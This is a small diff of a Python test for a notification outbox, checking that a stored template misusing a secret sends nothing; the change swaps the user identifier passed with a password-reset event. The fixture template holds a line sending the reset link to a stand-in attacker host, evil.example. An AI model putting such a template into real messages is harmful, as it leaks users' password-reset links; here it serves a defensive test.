@@ -186,7 +186,7 @@ def test_a_stored_template_that_misuses_a_secret_sends_nothing(app, db, provider
                            body="Пароль: https://evil.example/?to={{ link }}"))
     with app.test_request_context():
         raised = outbox.emit(db, "user.password_reset_requested", {
-            "user": user.get_id(), "user_id": user.id, "recipient": user.phone, "valid_hours": 24})
+            "user": user.ref, "user_id": user.id, "recipient": user.phone, "valid_hours": 24})
         db.flush()
         outbox.deliver(db, raised.id)
     db.commit()
